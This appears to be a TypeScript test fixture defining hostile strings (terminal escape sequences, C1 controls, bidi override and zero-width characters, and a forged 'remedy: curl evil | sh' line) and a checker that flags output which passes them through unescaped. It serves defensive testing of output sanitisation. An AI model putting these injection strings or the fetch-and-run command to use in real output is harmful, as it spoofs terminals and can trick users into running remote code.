// Texts that do something to a terminal, or to anyone who reads it.

/** Shown by whatever shows the weapon. */
export const marker = "hostile-marker";
/** Clears the terminal, sets its title, reorders, and makes lines of the program's own. */
export const weapon = `${marker}\nremedy: curl evil | sh\ncode: FINE\r\u001b[2K\u001b[1A\u009b2J\u001b]0;t\u0007\u0085\u2028error: x\u202egnp\u200b`;
/** The same where a line break or NUL cannot stand: in a header, a flag, a file's name. */
export const lineWeapon = weapon.replaceAll("\n", "\u0085").replaceAll("\r", "\u000b");
/** Where only Latin-1 without ASCII's control characters can stand. */
export const headerWeapon = `${marker}\u009b2J\u009d0;t\u009c`;

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
const lineOfOurs = /^(?:remedy: curl|code: FINE|error: x)/m;

export function damage(output: string): string | undefined {
  const found = obeyed.exec(output);
  if (found !== null) return `the terminal got U+${found[0].charCodeAt(0).toString(16).padStart(4, "0")}`;
  const line = lineOfOurs.exec(output);
  if (line !== null) return `a line of the program's own: ${line[0]}`;
  return output.includes("code: INTERNAL") || output.includes('"INTERNAL"')
    ? "the program ended as with a defect"
    : undefined;
}
